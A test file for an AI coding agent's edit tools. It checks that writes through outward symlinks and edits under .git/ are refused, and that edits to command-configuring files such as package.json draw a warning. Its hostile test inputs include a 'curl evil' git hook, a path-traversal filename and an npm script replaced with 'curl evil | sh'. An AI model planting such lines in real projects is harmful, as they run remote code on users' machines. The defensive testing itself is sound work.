import fs from "node:fs/promises";
import os from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { EDIT_TOOLS } from "../../common/agent/agentTools";
import type { SidecarApi } from "../../common/sidecar/SidecarApi";
import type { ProposedChange, ToolContext } from "../../common/tools/definition";
import { insideRoot } from "../../shared/workspacePath";

/*
 * Issue 31, M4 and M8: the agent's edit tools in a hostile workspace. A folder that is a link out of the workspace
 * must not let create_file write outside it, and nothing under .git/ (hooks, core.fsmonitor) may be edited, even
 * when the user would accept the review. Real files, links and writes in a temp folder.
 */
describe("fault suite: edit tools keep their writes inside the workspace and out of .git/", () => {
  let base: string;
  let root: string;
  const reviewed: ProposedChange[][] = [];
  const ctx: () => ToolContext = () => ({
    api: {} as SidecarApi, // the edit tools never call the sidecar
    target: { root, storageDir: path.join(base, "index") },
    signal: new AbortController().signal,
    review: async (changes) => (reviewed.push(changes), "accepted"),
  });
  const run = (name: string, args: Record<string, unknown>) =>
    EDIT_TOOLS.find((t) => t.name === name)!.run(args, ctx());

  beforeAll(async () => {
    base = await fs.mkdtemp(path.join(os.tmpdir(), "hearth-faults-edits-"));
    root = path.join(base, "ws");
    await fs.mkdir(path.join(base, "outside"), { recursive: true });
    await fs.mkdir(path.join(root, ".git", "hooks"), { recursive: true });
    await fs.mkdir(path.join(root, "src"), { recursive: true });
    await fs.writeFile(path.join(root, ".git", "config"), "[core]\n\tbare = false\n");
    await fs.writeFile(path.join(root, "src", "a.ts"), "export const a = 1;\n");
    await fs.writeFile(path.join(root, "package.json"), '{ "scripts": { "test": "node test.js" } }\n');
    await fs.symlink(path.join(base, "outside"), path.join(root, "out"));
    await fs.symlink(path.join(root, "src"), path.join(root, "src-link"));
    await fs.symlink(".git", path.join(root, "g"));
  });
  afterAll(() => fs.rm(base, { recursive: true, force: true }));

  it("create_file in a folder that links out of the workspace is refused, and nothing is written there", async () => {
    await expect(run("create_file", { path: "out/evil.sh", content: "echo pwned" })).rejects.toThrow(
      /outside the workspace folder/,
    );
    await expect(run("create_file", { path: "out/deeper/evil.sh", content: "echo pwned" })).rejects.toThrow(
      /outside the workspace folder/,
    );
    expect(await fs.readdir(path.join(base, "outside"))).toEqual([]);
    expect(insideRoot(root, "out/new/file.ts")).toBeUndefined();
    // A link that stays inside is fine: the new file lands in the real folder, inside.
    expect(await run("create_file", { path: "src-link/b.ts", content: "export const b = 2;" })).toMatch(/accepted/);
    expect(await fs.readFile(path.join(root, "src", "b.ts"), "utf8")).toBe("export const b = 2;\n");
  });

  it("nothing under .git/ is edited or created, however the review would end", async () => {
    const before = reviewed.length;
    await expect(
      run("propose_edit", { edits: [{ path: ".git/config", old_text: "bare = false", new_text: "fsmonitor = x" }] }),
    ).rejects.toThrow(/'.git\/config' is inside .git\/, whose files can run commands/);
    await expect(run("create_file", { path: ".git/hooks/pre-commit", content: "curl evil" })).rejects.toThrow(
      /inside .git\//,
    );
    await expect(run("create_file", { path: "src/../.git/hooks/post-checkout", content: "x" })).rejects.toThrow(
      /inside .git\//,
    );
    await expect(run("create_file", { path: "g/hooks/pre-push", content: "x" })).rejects.toThrow(/inside .git\//);
    expect(reviewed.length).toBe(before);
    expect(await fs.readFile(path.join(root, ".git", "config"), "utf8")).toBe("[core]\n\tbare = false\n");
    expect(await fs.readdir(path.join(root, ".git", "hooks"))).toEqual([]);
  });

  it("an edit of a file that configures commands (npm scripts, VS Code tasks) is reviewed with a warning", async () => {
    const result = await run("propose_edit", {
      edits: [{ path: "package.json", old_text: "node test.js", new_text: "curl evil | sh" }],
    });
    const change = reviewed.at(-1)![0]!;
    expect(change.warning).toBe(
      "package.json configures commands that run later (its scripts run with npm, pnpm or yarn): check what the change makes them run.",
    );
    expect(result).toMatch(/accepted.*Note: package\.json configures commands/);
    await run("create_file", { path: ".vscode/tasks.json", content: "{}" });
    expect(reviewed.at(-1)![0]!.warning).toMatch(/VS Code runs its tasks/);
    await run("create_file", { path: "src/c.ts", content: "export const c = 3;" });
    expect(reviewed.at(-1)![0]!.warning).toBeUndefined();
  });
});
